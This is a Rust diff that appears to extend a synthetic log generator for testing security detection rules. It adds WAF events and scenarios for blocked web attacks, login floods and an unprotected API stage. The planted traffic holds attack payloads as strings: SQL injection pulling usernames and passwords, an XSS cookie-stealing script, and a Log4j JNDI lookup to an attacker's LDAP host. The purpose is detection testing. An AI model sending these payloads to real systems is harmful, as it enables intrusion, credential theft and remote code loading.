@@ -5,6 +5,7 @@ use serde::{Deserialize, Serialize};
 use serde_json::json;
 
 use crate::background::{access_log, invocation, iso, user_identity_of, Ending, Request};
+use crate::firewall::{self, Inspected, ManagedRule, Verdict};
 use crate::identity::*;
 
 /// A generated event of one family.
@@ -23,6 +24,10 @@ pub enum Event {
         ms: i64,
         line: String,
     },
+    Waf {
+        ms: i64,
+        line: String,
+    },
 }
 
 impl Event {
@@ -30,7 +35,8 @@ impl Event {
         match self {
             Event::CloudTrail { ms, .. }
             | Event::ApiGateway { ms, .. }
-            | Event::Lambda { ms, .. } => *ms,
+            | Event::Lambda { ms, .. }
+            | Event::Waf { ms, .. } => *ms,
         }
     }
 }
@@ -60,10 +66,16 @@ pub enum ScenarioKind {
     /// route (a sale, a link on a front page): one route spike, and no
     /// finding about any one client.
     FlashCrowd,
+    /// SQL injection, XSS and Log4j probes the web ACL blocks.
+    WebAttackBlocked,
+    /// A POST /login flood the web ACL's rate-based rule blocks.
+    LoginRateLimited,
+    /// Requests to a stage of the protected API that no web ACL covers.
+    UnprotectedStage,
 }
 
 impl ScenarioKind {
-    pub const ALL: [ScenarioKind; 15] = [
+    pub const ALL: [ScenarioKind; 18] = [
         ScenarioKind::FailedAuthBurst,
         ScenarioKind::PasswordSpray,
         ScenarioKind::TrafficSpike,
@@ -79,6 +91,9 @@ impl ScenarioKind {
         ScenarioKind::LambdaLayerBackdoor,
         ScenarioKind::ApiAuthorizationRemoved,
         ScenarioKind::FlashCrowd,
+        ScenarioKind::WebAttackBlocked,
+        ScenarioKind::LoginRateLimited,
+        ScenarioKind::UnprotectedStage,
     ];
 
     /// The built-in rules that must report this scenario.
@@ -99,6 +114,9 @@ impl ScenarioKind {
             ScenarioKind::LambdaLayerBackdoor => &["lambda_layer_added"],
             ScenarioKind::ApiAuthorizationRemoved => &["apigw_authorization_removed"],
             ScenarioKind::FlashCrowd => &["apigw_route_traffic_spike"],
+            ScenarioKind::WebAttackBlocked => &["waf_attack_rule_groups", "waf_blocked_burst"],
+            ScenarioKind::LoginRateLimited => &["waf_rate_limit_triggered"],
+            ScenarioKind::UnprotectedStage => &["waf_unprotected_api_traffic"],
         }
     }
 
@@ -168,6 +186,9 @@ pub fn plant(
         ScenarioKind::SqlInjectionProbes => sql_injection_probes(rng, &plot),
         ScenarioKind::BruteForceThatWorked => brute_force_that_worked(rng, &plot),
         ScenarioKind::LambdaTimeouts => lambda_timeouts(rng, &plot),
+        ScenarioKind::WebAttackBlocked => web_attack_blocked(rng, &plot),
+        ScenarioKind::LoginRateLimited => login_rate_limited(rng, &plot),
+        ScenarioKind::UnprotectedStage => unprotected_stage(rng, &plot),
     };
     events.sort_by_key(Event::ms);
     let start_ms = events.first().map(Event::ms).unwrap_or(start);
@@ -239,6 +260,22 @@ fn api_request(
     agent: &'static str,
     ms: i64,
 ) -> Event {
+    Event::ApiGateway {
+        ms,
+        line: access_line(rng, route, ip, status, path, agent, ms),
+    }
+}
+
+/// The access log of one API Gateway request of a scenario.
+fn access_line(
+    rng: &mut fastrand::Rng,
+    route: &'static Route,
+    ip: &str,
+    status: u16,
+    path: String,
+    agent: &'static str,
+    ms: i64,
+) -> String {
     let request = Request {
         route,
         ip: ip.to_string(),
@@ -247,10 +284,7 @@ fn api_request(
         agent,
         latency_ms: 30,
     };
-    Event::ApiGateway {
-        ms,
-        line: access_log(rng, ms, &request),
-    }
+    access_log(rng, ms, &request)
 }
 
 fn failed_auth_burst(rng: &mut fastrand::Rng, plot: &Plot) -> Planted {
@@ -568,6 +602,109 @@ fn lambda_timeouts(rng: &mut fastrand::Rng, plot: &Plot) -> Planted {
     entities.push(f.name.into());
 
     Planted { events, entities }
+}
+
+/// A request of the attacker's that the web ACL blocked.
+fn blocked_request(
+    rng: &mut fastrand::Rng,
+    plot: &Plot,
+    ms: i64,
+    target: &str,
+    agent: &str,
+    verdict: Verdict,
+) -> Event {
+    let request_id = uuid(rng);
+    let method = if target == "/login" { "POST" } else { "GET" };
+    let request = Inspected {
+        ms,
+        request_id: &request_id,
+        ip: &plot.attacker,
+        method,
+        target,
+        agent,
+    };
+    Event::Waf {
+        ms,
+        line: firewall::record(&request, verdict),
+    }
+}
+
+fn web_attack_blocked(rng: &mut fastrand::Rng, plot: &Plot) -> Planted {
+    const SQLMAP: &str = "sqlmap/1.8.11#stable (https://sqlmap.org)";
+    let jndi = format!("${{jndi:ldap://{}:1389/a}}", plot.attacker);
+    let probes: [(ManagedRule, &str, &str); 3] = [
+        (
+            firewall::SQLI,
+            "/search?q=1' UNION SELECT username,password FROM users--",
+            SQLMAP,
+        ),
+        (
+            firewall::XSS,
+            "/search?q=<script>alert(document.cookie)</script>",
+            SQLMAP,
+        ),
+        (firewall::LOG4J, "/search?q=shoes", &jndi),
+    ];
+    let count = 30;
+    let events = (0..count)
+        .map(|i| {
+            let (rule, target, agent) = probes[i as usize % probes.len()];
+            let ms = plot.at(i, count);
+            blocked_request(rng, plot, ms, target, agent, Verdict::BlockedByGroup(rule))
+        })
+        .collect();
+    Planted {
+        events,
+        entities: vec![plot.attacker.clone()],
+    }
+}
+
+fn login_rate_limited(rng: &mut fastrand::Rng, plot: &Plot) -> Planted {
+    let count = 40;
+    let events = (0..count)
+        .map(|i| {
+            let ms = plot.at(i, count);
+            let verdict = Verdict::RateLimited {
+                rule: "login-rate-limit",
+            };
+            blocked_request(rng, plot, ms, "/login", "python-requests/2.32.3", verdict)
+        })
+        .collect();
+    Planted {
+        events,
+        entities: vec![plot.attacker.clone()],
+    }
+}
+
+fn unprotected_stage(rng: &mut fastrand::Rng, plot: &Plot) -> Planted {
+    // The protected API's `test` stage, which the web ACL is not associated
+    // with: what it blocks on prod goes through here.
+    let search = route("GET", "/search");
+    let count = 15;
+    let mut events = Vec::new();
+    for i in 0..count {
+        let ms = plot.at(i, count);
+        let line = access_line(
+            rng,
+            search,
+            &plot.attacker,
+            200,
+            format!("/search?q={i}' OR '1'='1"),
+            "sqlmap/1.8.11#stable (https://sqlmap.org)",
+            ms,
+        )
+        .replace("\"stage\":\"prod\"", "\"stage\":\"test\"")
+        .replace("\"path\":\"/prod/", "\"path\":\"/test/");
+        events.push(Event::ApiGateway { ms, line });
+    }
+    Planted {
+        events,
+        // The injection reaches API Gateway: its own rules see the attacker too.
+        entities: vec![
+            format!("{}/test", firewall::PROTECTED_API),
+            plot.attacker.clone(),
+        ],
+    }
 }
 
 /// How many background requests the routes `on` usually receive in `span_ms`
